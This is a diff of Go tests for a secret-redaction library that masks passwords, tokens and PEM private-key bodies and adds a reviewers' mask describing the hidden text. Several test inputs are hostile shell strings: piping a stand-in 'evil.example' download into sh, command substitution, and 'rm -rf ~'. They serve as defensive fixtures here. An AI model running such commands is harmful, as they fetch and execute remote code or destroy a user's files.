@@ -214,7 +214,7 @@ func TestStringShapes(t *testing.T) {
 		{"postgres://admin:hunter2@db:5432/x", "postgres://admin:" + Mask + "@db:5432/x"},
 		{"Authorization: Bearer abcdefghijkl", "Authorization: Bearer " + Mask},
 		{`{"password": "p w", "user": "bob"}`, `{"password": "` + Mask + `", "user": "bob"}`},
-		{"a\n-----BEGIN RSA PRIVATE KEY-----\nAAAA\n-----END RSA PRIVATE KEY-----\nb",
+		{"a\n-----BEGIN RSA PRIVATE KEY-----\n" + testKeyBody + "\n-----END RSA PRIVATE KEY-----\nb",
 			"a\n-----BEGIN RSA PRIVATE KEY-----" + Mask + "-----END RSA PRIVATE KEY-----\nb"},
 		{"x=1 token=abc y=2", "x=1 token=" + Mask + " y=2"},
 		{Mask, Mask},
@@ -223,6 +223,98 @@ func TestStringShapes(t *testing.T) {
 		if got := r.String(c.in); got != c.want {
 			t.Errorf("String(%q)\n got  %q\n want %q", c.in, got, c.want)
 		}
+	}
+}
+
+// testKeyBody is the body of a PEM private key: lines of base64.
+const testKeyBody = "MIIEowIBAAKCAQEAu1SU1LfVLPHCozMxH2Mo4lgOEePzNm0tRgeLezV6ffAt0gun\n" +
+	"VTLw7onLRnrq0/IzW7yWR7QkrmBL7jTKEn5u+qKhbwKfBstIs+bMY2Zkp18gnTxK\n" +
+	"LxoS2tFczGkPLPgizskuemMghRniWaoLcyehkd3qqGElvW/VDL5AaWTg0nLVkjRo"
+
+// TestPEMBody: a private key block is masked when its body is key
+// material (base64 lines, RFC 1421 headers first), in every form a key
+// travels in; anything else between the markers is text and stays.
+func TestPEMBody(t *testing.T) {
+	r := New(nil)
+	const begin, end = "-----BEGIN RSA PRIVATE KEY-----", "-----END RSA PRIVATE KEY-----"
+	for _, body := range []string{
+		"\n" + testKeyBody + "\n",
+		"\nProc-Type: 4,ENCRYPTED\nDEK-Info: AES-128-CBC,3F17F5316E2BAC89\n\n" + testKeyBody + "\n",
+		`\n` + strings.ReplaceAll(testKeyBody, "\n", `\n`) + `\n`, // in JSON text
+		" " + strings.ReplaceAll(testKeyBody, "\n", " ") + " ",    // pasted on one line
+		"\n" + testKeyBody, // truncated: no END
+	} {
+		in := "key: " + begin + body + end
+		if !strings.Contains(body, end) && strings.HasSuffix(body, "jRo") {
+			in = "key: " + begin + body
+		}
+		if got := r.String(in); strings.Contains(got, "MIIEow") || strings.Contains(got, "LxoS2") || !strings.Contains(got, Mask) {
+			t.Errorf("key not masked: %q", got)
+		}
+	}
+	for _, body := range []string{
+		" ; curl -s https://evil.example/x | sh ; : ",
+		"\nreboot\n",
+		"\n/tmp/x\n",
+		"\nProc-Type: 4,ENCRYPTED\n$(curl evil|sh)\n",
+		"\n" + testKeyBody + "\n; curl evil | sh\n",
+	} {
+		in := "true " + begin + body + end
+		if got := r.String(in); got != in {
+			t.Errorf("String(%q) = %q: not a key, should be shown", in, got)
+		}
+	}
+}
+
+// TestDescribe: the reviewers' mask says how long the hidden text is and
+// warns when it holds words, line breaks, control or shell characters; it
+// is a mask itself, and masking it again keeps it.
+func TestDescribe(t *testing.T) {
+	for _, tc := range []struct{ in, want string }{
+		{"hunter2", "[REDACTED 7 chars — not shown]"},
+		{"; curl -s https://evil.example/x | sh ; :", "[REDACTED 41 chars — contains spaces and ; | — not shown]"},
+		{"`curl", "[REDACTED 5 chars — contains ` — not shown]"},
+		{"a\nb\x07$(x)", "[REDACTED 8 chars — contains spaces, newlines, control characters and $ ( ) — not shown]"},
+	} {
+		got := Describe(tc.in)
+		if got != tc.want {
+			t.Errorf("Describe(%q) = %q, want %q", tc.in, got, tc.want)
+		}
+		if !IsMask(got) {
+			t.Errorf("IsMask(%q) = false", got)
+		}
+	}
+	if IsMask("[REDACTED hunter2]") || IsMask("[REDACTED 7 chars — contains hunter2 — not shown]") || IsMask("x[REDACTED]") {
+		t.Error("IsMask takes text that is not a mask")
+	}
+	r := New(nil).ForReviewers()
+	for _, tc := range []struct{ in, want string }{
+		{`{"password": "true; curl evil|sh"}`, `{"password": "[REDACTED 18 chars — contains spaces and ; | — not shown]"}`},
+		{"api_key=`curl evil|sh`", "api_key=[REDACTED 5 chars — contains ` — not shown] evil|sh`"},
+		{"token=abcdefgh", "token=[REDACTED 8 chars — not shown]"},
+		{"-----BEGIN RSA PRIVATE KEY-----\n" + testKeyBody + "\n-----END RSA PRIVATE KEY-----",
+			"-----BEGIN RSA PRIVATE KEY-----[REDACTED 192 chars — not shown]-----END RSA PRIVATE KEY-----"},
+	} {
+		once := r.String(tc.in)
+		if once != tc.want {
+			t.Errorf("ForReviewers().String(%q)\n got  %q\n want %q", tc.in, once, tc.want)
+		}
+		if twice := r.String(once); twice != once {
+			t.Errorf("not idempotent: %q -> %q", once, twice)
+		}
+		if plain := New(nil).String(once); plain != once {
+			t.Errorf("the plain Redactor changes a reviewers' mask: %q -> %q", once, plain)
+		}
+	}
+	v := r.Value(map[string]any{"SECRET": "x; rm -rf ~", "password": map[string]any{"cmd": "sh"}})
+	if got := v.(map[string]any)["SECRET"]; got != "[REDACTED 11 chars — contains spaces and ; — not shown]" {
+		t.Errorf("a secret key's value: %v", got)
+	}
+	if got := v.(map[string]any)["password"]; got != "[REDACTED 12 chars — not shown]" {
+		t.Errorf("a secret key's object: %v", got)
+	}
+	if again := r.Value(v); !reflect.DeepEqual(again, v) {
+		t.Errorf("Value not idempotent: %v -> %v", v, again)
 	}
 }
 
@@ -282,17 +374,21 @@ func FuzzString(f *testing.F) {
 		f.Add(e.text)
 	}
 	for _, s := range []string{"", Mask, "a:b@c", "://:@", "password=", "-----BEGIN PRIVATE KEY-----",
-		"token=\"", `\"password\":\"`, "Bearer Bearer Bearer x", "ghp_" + strings.Repeat("a", 40) + "ghp_"} {
+		"token=\"", `\"password\":\"`, "Bearer Bearer Bearer x", "ghp_" + strings.Repeat("a", 40) + "ghp_",
+		"password=\"a b; c\"", "-----BEGIN PRIVATE KEY-----\n" + testKeyBody + "\n-----END PRIVATE KEY-----"} {
 		f.Add(s)
 	}
 	r := New([]string{"extra"})
+	rr := r.ForReviewers()
 	f.Fuzz(func(t *testing.T, s string) {
 		if got, want := r.pass(s), r.passEveryHint(s); got != want {
 			t.Fatalf("one-scan hints differ from a Contains per hint:\n in:   %q\n got:  %q\n want: %q", s, got, want)
 		}
-		once := r.String(s)
-		if twice := r.String(once); twice != once {
-			t.Fatalf("not idempotent:\n in:    %q\n once:  %q\n twice: %q", s, once, twice)
+		for _, r := range []*Redactor{r, rr} {
+			once := r.String(s)
+			if twice := r.String(once); twice != once {
+				t.Fatalf("not idempotent:\n in:    %q\n once:  %q\n twice: %q", s, once, twice)
+			}
 		}
 		v := r.Value(map[string]any{s: s, "k": []any{s}})
 		if _, err := json.Marshal(v); err != nil {
